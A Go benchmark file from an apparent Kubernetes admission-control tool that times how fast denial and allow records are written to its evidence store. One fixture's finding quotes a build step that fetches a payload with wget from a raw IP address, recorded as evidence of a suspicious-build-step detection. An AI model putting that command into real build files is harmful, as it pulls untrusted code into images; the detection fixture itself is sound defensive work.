package evidence

import (
	"context"
	"encoding/json"
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"buildguard.dev/buildguard/internal/proccpu"
)

// benchDecision is a denial as the webhook records it: one image with two
// findings and their evidence (about 1 KB of images JSON).
func benchDecision(id int64) Decision {
	images, _ := json.Marshal([]map[string]any{{
		"container": "app", "containerKind": "container", "image": "registry.example/shop/web:1.4",
		"digest": "sha256:f26979c8a7b5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9", "verdict": "deny",
		"configDigests": []string{"sha256:1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e"},
		"findings": []map[string]any{
			{"rule": "fresh-image", "severity": "high", "action": "deny",
				"message": "image was created 14s before admission (2026-11-26T21:21:14Z), less than freshness.minAge 10m",
				"summary": "created 14s before admission, minAge 10m", "policy": "default",
				"evidence": map[string]any{"ageSeconds": 14, "created": "2026-11-26T21:21:14Z", "minAge": "10m0s"}},
			{"rule": "suspicious-build-step", "severity": "high", "action": "deny",
				"message": `build step 1 downloads from raw IP 203.0.113.9 with wget: "RUN wget -q http://203.0.113.9:8080/payload"`,
				"summary": "step 1: raw-ip-download from 203.0.113.9", "policy": "default",
				"evidence": map[string]any{"stepIndex": 1, "kinds": []string{"raw-ip-download"}, "hosts": []string{"203.0.113.9"}}},
		},
	}})
	return Decision{
		ID: fmt.Sprintf("6f1c2a9e-1b7d-4c3a-9e51-%012x", id), Time: stT0.Add(time.Duration(id) * time.Millisecond),
		Operation: "CREATE", Namespace: "shop", Kind: "Pod", Name: "hotfix",
		User: "system:serviceaccount:kube-system:replicaset-controller", Groups: []string{"system:serviceaccounts", "system:authenticated"},
		Mode: "enforce", Verdict: "deny", Rules: []string{"fresh-image", "suspicious-build-step"}, Images: images,
	}
}

// benchAllow is an allowed review of a 3-container Deployment as the
// webhook records it: the shape most records have in a busy cluster.
func benchAllow(id int64) Decision {
	var imgs []map[string]any
	for i, kind := range []string{"initContainer", "container", "container"} {
		imgs = append(imgs, map[string]any{
			"container": fmt.Sprint("c", i), "containerKind": kind, "image": fmt.Sprintf("registry.example/shop/web-%d:1.4", i),
			"digest":  fmt.Sprintf("sha256:f26979c8a7b5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d%d", i),
			"verdict": "allow",
		})
	}
	images, _ := json.Marshal(imgs)
	return Decision{
		ID: fmt.Sprintf("7f1c2a9e-1b7d-4c3a-9e51-%012x", id), Time: stT0.Add(time.Duration(id) * time.Millisecond),
		Operation: "CREATE", Namespace: "shop", Kind: "Deployment", Name: "web",
		User: "system:serviceaccount:kube-system:deployment-controller", Groups: []string{"system:serviceaccounts", "system:authenticated"},
		Mode: "enforce", Verdict: "allow", Images: images,
	}
}

// BenchmarkAddDecisions stores denials in transactions of 1, 16 and 256
// records (each a durable commit), and allowed 3-container reviews in
// transactions of 256, and reports records/s and the CPU each record
// cost (the benchmark's own process, so the PostgreSQL server's CPU is
// not in it): what the Recorder's writer and its group commits can
// store.
func BenchmarkAddDecisions(b *testing.B) {
	for _, be := range benchBackends() {
		b.Run(be.name, func(b *testing.B) {
			s := be.open(b)
			var seq atomic.Int64
			for _, c := range []struct {
				name string
				size int
				make func(int64) Decision
			}{{"deny/batch-1", 1, benchDecision}, {"deny/batch-16", 16, benchDecision}, {"deny/batch-256", 256, benchDecision}, {"allow3/batch-256", 256, benchAllow}} {
				size := c.size
				b.Run(c.name, func(b *testing.B) {
					ctx := context.Background()
					batch := make([]Decision, size)
					records := 0
					cpu0, cpuOK := proccpu.Self()
					for b.Loop() {
						for i := range batch {
							batch[i] = c.make(seq.Add(1))
						}
						if err := s.AddDecisions(ctx, batch); err != nil {
							b.Fatal(err)
						}
						records += size
					}
					b.ReportMetric(float64(records)/b.Elapsed().Seconds(), "records/s")
					if cpu1, ok := proccpu.Self(); cpuOK && ok {
						b.ReportMetric(float64((cpu1-cpu0).Microseconds())/float64(records), "CPU-µs/record")
					}
					b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N), "µs/commit")
				})
			}
		})
	}
}
